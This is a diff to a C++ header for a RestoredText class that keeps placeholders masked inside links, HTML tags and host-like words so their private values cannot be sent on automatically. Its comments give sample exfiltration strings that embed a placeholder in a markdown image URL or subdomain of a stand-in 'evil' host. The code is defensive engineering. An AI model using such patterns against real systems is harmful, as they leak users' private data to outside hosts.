@@ -1,6 +1,7 @@
 #pragma once
 
 #include <cstddef>
+#include <cstdint>
 #include <optional>
 #include <string>
 #include <string_view>
@@ -11,9 +12,9 @@ namespace edgedraft {
 
 // A text that came with placeholders, as its reader is to see it: what they stand for in their
 // place, but where a reader's program might send it on by itself. A hostile target would write
-// ![](https://evil/?[NAME_001]). So within links, labels of pictures, tags of HTML, and whatever
-// contains "//" or "https:" placeholders stay as they are, and so do those that were never given
-// out.
+// ![](https://evil/?[NAME_001]), or [NAME_001].evil.example. So within links, labels of pictures,
+// tags of HTML, and words that contain "//" or have a dot, slash, question mark, colon or @ behind
+// a letter, placeholders stay as they are, and so do those that were never given out.
 class RestoredText {
  public:
   // Values of more bytes together stay placeholders: a hostile target repeats the longest.
@@ -72,15 +73,24 @@ class RestoredText {
     bool in_sentence = false;       // directly behind a value that stands behind a word
     bool word_links = false;        // it contains "//", "http:", "https:" or "www."
     std::string word_tail;          // its last characters
-    bool runs_on = false;           // behind the beginning of a script or style sheet
+    // A word with a dot or colon behind a letter, which may be followed by the rest of a host or of
+    // an address without "//"; with the rest of that; and with what makes a path of all that
+    // follows.
+    char joint = 0;
+    bool in_host = false;
+    bool in_address = false;
+    std::uint32_t last_bytes = 0;    // four of them
+    bool backslash_escapes = false;  // as in JSON: it ends a word
+    bool runs_on = false;            // behind the beginning of a script or style sheet
 
     void take(char c);
     void take_in_label(char c);
+    void take_in_word(char c);
     void take_in_tag(char c);
     bool is_behind_word() const;
     bool may_be_sent_on() const {
       return runs_on || in_tag || target_depth > 0 || in_definition || label_depth > 0 ||
-             word_links;
+             word_links || joint != 0 || in_host || in_address;
     }
   };
 
@@ -104,6 +114,7 @@ class RestoredText {
   void read_again();
   void read(bool whole);
   void take(char c);
+  std::optional<bool> begins_address(std::size_t at, bool whole) const;
   void take_placeholder(std::string_view placeholder, bool stays);
   Piece take_piece();
 
